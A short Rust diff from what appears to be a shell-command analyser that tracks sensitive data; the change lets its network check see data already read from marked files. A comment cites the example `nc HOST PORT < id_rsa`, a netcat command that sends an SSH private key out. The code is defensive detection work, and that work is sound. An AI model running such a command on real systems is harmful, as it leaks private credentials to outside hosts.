@@ -293,7 +293,9 @@ impl<'r> Run<'r, '_> {
 
         let mut hits = self.process(index, command, &line, &effects, given, ran);
         hits.extend(self.files(index, command, &line, &effects, given));
-        hits.extend(self.network(index, command, &line, &effects, given));
+        // A command that reads a marked file may send it itself: `nc HOST PORT < id_rsa`.
+        let held = hits.iter().fold(given, |all, hit| all | hit.marks);
+        hits.extend(self.network(index, command, &line, &effects, held));
 
         let marks = hits.iter().fold(given, |all, hit| all | hit.marks);
         if let Some((_, flowing)) = self.pipelines.get_mut(pipeline) {
